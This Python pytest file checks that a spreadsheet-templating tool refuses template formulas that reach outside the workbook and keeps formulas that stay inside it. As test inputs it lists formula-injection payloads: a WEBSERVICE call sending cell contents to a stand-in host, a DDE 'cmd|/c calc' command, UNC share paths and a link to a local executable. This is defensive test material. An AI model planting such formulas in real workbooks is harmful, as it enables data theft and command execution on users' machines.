"""Template formulas that reach outside of the workbook are refused with the cell's name."""

from __future__ import annotations

from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import TYPE_CHECKING, Final

import pytest

from estate_xl.console.cli import main
from estate_xl.files.session import open_file
from support.mails import MONTH, clean_office

if TYPE_CHECKING:
    from collections.abc import Callable

    import xlwings as xw

COMMANDS: Final = {
    "報事單模板": ("work-orders",),
    "月度考核模板": ("month-end", "--month", MONTH),
    "評分表模板": ("prepare", "--month", MONTH),
    "個人得分單模板": ("score-slips", "--month", MONTH),
    "催辦單模板": ("reminders",),
    "郵件模板": ("send", "--month", MONTH, "--dry-run", "--force"),
}
CELL: Final = "Z2"
REACHING: Final = {
    '=WEBSERVICE("http://example.invalid/"&A1)': "WEBSERVICE",
    '=FILTERXML(A1,"//x")': "FILTERXML",
    '=IMAGE("http://example.invalid/a.png")': "IMAGE",
    '=RTD("a.b",,"x")': "RTD",
    "=[1]Sheet1!A1": "[1]Sheet1!",
    "='\\\\host\\share\\[a.xlsx]Sheet1'!A1": "\\\\host\\share\\[a.xlsx]Sheet1",
    "=cmd|'/c calc'!A0": "|",
    '=HYPERLINK("\\\\host\\share","點這裏")': "HYPERLINK",
    '=HYPERLINK("file:///c:/a.exe")': "HYPERLINK",
    '=HYPERLINK("{{ 項目名稱 }}")': "HYPERLINK",
    "=outside+1": "outside → WEBSERVICE",
}
FEW: Final = (next(iter(REACHING)), "=outside+1")
CASES: Final = [
    *(("報事單模板", formula) for formula in REACHING),
    *((title, formula) for title in COMMANDS for formula in FEW if title != "報事單模板"),
]
STAYING: Final = (
    '=HYPERLINK("#\'首頁\'!A1","首頁")',
    '=HYPERLINK("https://example.com/","網頁")',
    "=within&\"WEBSERVICE('http://a')\"",
    "=SUM(A1:A2)/2",
)


@cache
def office() -> bytes:
    with TemporaryDirectory() as folder:
        path = Path(folder) / "office.xlsx"
        clean_office(path)
        return path.read_bytes()


def change(path: Path, work: Callable[[xw.Book], None]) -> None:
    with open_file(path) as opened:
        work(opened.book)
        opened.save()


@pytest.mark.parametrize(("title", "formula"), CASES)
def test_a_formula_that_reaches_out_is_refused_with_its_cell(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], title: str, formula: str
) -> None:
    path = tmp_path / "office.xlsx"
    path.write_bytes(office())

    def plant(book: xw.Book) -> None:
        book.names.add("outside", '=_xlfn.WEBSERVICE("http://example.invalid/")')
        book.sheets[title].range(CELL).formula = formula

    change(path, plant)
    before = path.read_bytes()
    command, *rest = COMMANDS[title]
    assert main([command, str(path), *rest, "--quiet"]) == 2
    said = capsys.readouterr().err
    assert f"{title}!{CELL} 的公式用了「{REACHING[formula]}」" in said
    assert len(said.splitlines()) == 1
    assert path.read_bytes() == before


@pytest.mark.parametrize("title", COMMANDS)
def test_formulas_that_stay_within_are_kept(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], title: str
) -> None:
    """Also beside a name that reaches out and that no template uses: the office's own affair."""
    path = tmp_path / "office.xlsx"
    path.write_bytes(office())

    def plant(book: xw.Book) -> None:
        book.names.add("outside", '=_xlfn.WEBSERVICE("http://example.invalid/")')
        book.names.add("within", "='首頁'!$A$1")
        sheet = book.sheets[title]
        for row, formula in enumerate(STAYING, start=2):
            sheet.range((row, 26)).formula = formula

    change(path, plant)
    command, *rest = COMMANDS[title]
    assert main([command, str(path), *rest, "--quiet"]) in {0, 1}
    assert "的公式用了" not in capsys.readouterr().err
